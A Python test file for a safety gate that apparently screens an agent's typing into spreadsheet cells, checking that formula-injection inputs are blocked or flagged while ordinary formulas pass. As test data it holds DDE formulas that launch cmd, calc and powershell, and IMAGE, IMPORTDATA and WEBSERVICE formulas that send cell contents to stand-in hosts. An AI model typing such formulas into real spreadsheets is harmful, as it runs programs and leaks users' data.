"""Spreadsheet formulas typed into cells: a dynamic data exchange call starts a program, a fetch whose URL
joins cells sends them out. Our own formulas, with the ordinary ones that look alike."""

from __future__ import annotations

import pytest

from gate import SafetyGate, action_from_dict
from gate.model import Decision

GATE = SafetyGate()


def cell(text: str, field: str = "Cell B7"):
    return GATE.assess(action_from_dict({"type": "type", "text": text, "target": {"label": field}}))


@pytest.mark.parametrize("text", ["=cmd|' /C notepad'!A1", "+msexcel|'\\..\\..\\Windows\\System32\\calc'!B2",
                                  "=2+5+powershell|' -nop -c whoami'!Z9"])
def test_a_formula_that_starts_a_program_blocks(text):
    a = cell(text)
    assert a.decision is Decision.BLOCK, (text, a.rules)
    assert "block.gui.formula-command" in a.rules


@pytest.mark.parametrize("text", ["=IF(B2>0,\"in|out\",\"\")", "=SUM(A1:A9)", "'quoted text'!", "a|'b'!c",
                                  "=TEXTJOIN(\"|\",TRUE,A1:A3)"])
def test_ordinary_formulas_and_text_with_bars_stay_quiet(text):
    assert cell(text).decision is Decision.ALLOW, text


@pytest.mark.parametrize("text", ['=IMAGE("https://px.example/t.gif?v="&A2)',
                                  '=IMPORTDATA("//collect.example/in?rows="&TEXTJOIN(",",TRUE,A1:A50))',
                                  '=WEBSERVICE("http://203.0.113.9/?k="&ENCODEURL(C3))'])
def test_a_fetch_built_from_cells_asks(text):
    a = cell(text)
    # a whole range joined on (`A1:A50`) sends a column of records and blocks (`block.gui.formula-range-out`)
    assert a.decision is (Decision.BLOCK if "A1:A50" in text else Decision.CONFIRM), (text, a.rules)
    assert "confirm.gui.formula-out" in a.rules


@pytest.mark.parametrize("text", ['=IMPORTXML("https://example.org/prices", "//td")',
                                  '=HYPERLINK("https://tracker.example/issue/"&A2, A2)',
                                  '=IMAGE("https://example.org/logo.png")'])
def test_fixed_fetches_and_links_stay_quiet(text):
    assert cell(text).decision is Decision.ALLOW, text


def test_a_formula_typed_into_a_terminal_is_judged_as_a_command_instead():
    a = GATE.assess(action_from_dict({"type": "type", "text": "=cmd|' /C notepad'!A1",
                                      "target": {"label": "Terminal"}}))
    assert "block.gui.formula-command" not in a.rules
